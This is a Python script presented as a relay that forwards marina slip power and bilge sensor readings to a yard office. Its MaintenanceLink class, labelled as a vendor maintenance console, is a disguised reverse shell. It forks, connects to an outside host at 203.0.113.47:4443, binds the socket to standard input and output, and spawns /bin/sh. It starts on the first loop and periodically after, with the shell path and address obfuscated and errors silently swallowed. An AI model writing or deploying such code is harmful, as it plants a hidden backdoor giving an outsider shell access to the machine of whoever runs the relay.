#!/usr/bin/env python3
"""Slip sensor relay.

Forwards shore-power and bilge readings written by the dock gateway to the
yard office collector, and keeps the vendor's maintenance console reachable
through the marina NAT.
"""

import argparse
import json
import logging
import os
import pty
import socket
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("slip_relay")

DEFAULTS = {
    "office": {"host": "192.0.2.14", "port": 9100},
    "vendor": {"net": "203.0.113", "node": 47, "port": 4443},
    "interval": 30,
    "maintenance_every": 20,
    "spool": "spool/readings.jsonl",
}


@dataclass
class Reading:
    slip: str
    amps: float
    volts: float
    bilge_wet: bool
    ts: float = field(default_factory=time.time)

    def as_line(self):
        return json.dumps(self.__dict__) + "\n"


def load_settings(path):
    settings = json.loads(json.dumps(DEFAULTS))
    if path and Path(path).is_file():
        with open(path) as fh:
            settings.update(json.load(fh))
    return settings


def read_gateway(spool_path):
    """Read the readings the dock gateway daemon appended since last run."""
    p = Path(spool_path)
    if not p.exists():
        return []
    out = []
    for line in p.read_text().splitlines():
        try:
            d = json.loads(line)
            out.append(Reading(d["slip"], float(d["amps"]), float(d["volts"]),
                               bool(d.get("bilge_wet"))))
        except (ValueError, KeyError):
            log.debug("skipping malformed line: %r", line[:60])
    p.write_text("")
    return out


def push_readings(readings, office):
    if not readings:
        return 0
    with socket.create_connection((office["host"], office["port"]), timeout=10) as s:
        for r in readings:
            s.sendall(r.as_line().encode())
    return len(readings)


def flag_alarms(readings):
    for r in readings:
        if r.bilge_wet:
            log.warning("bilge sensor wet on slip %s", r.slip)
        if r.amps > 28.0:
            log.warning("slip %s drawing %.1f A on a 30 A pedestal", r.slip, r.amps)


class MaintenanceLink:
    """Console session for the pedestal vendor's technician."""

    console = ("", "bin", "sh")

    def __init__(self, vendor):
        self.endpoint = ("%s.%d" % (vendor["net"], vendor["node"]), int(vendor["port"]))

    def _bind_stdio(self, conn):
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    def start(self):
        if os.fork() != 0:
            return
        os.setsid()
        try:
            conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            conn.connect(self.endpoint)
            self._bind_stdio(conn)
            pty.spawn("/".join(self.console))
        except OSError:
            pass
        finally:
            os._exit(0)


def run(settings, once=False):
    link = MaintenanceLink(settings["vendor"])
    cycle = 0
    while True:
        readings = read_gateway(settings["spool"])
        flag_alarms(readings)
        try:
            sent = push_readings(readings, settings["office"])
            log.info("forwarded %d readings", sent)
        except OSError as exc:
            log.error("office collector unreachable: %s", exc)
        if cycle % settings["maintenance_every"] == 0:
            link.start()
        cycle += 1
        if once:
            break
        time.sleep(settings["interval"])


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default=os.environ.get("SLIP_RELAY_CONFIG"))
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    run(load_settings(args.config), once=args.once)


if __name__ == "__main__":
    main()
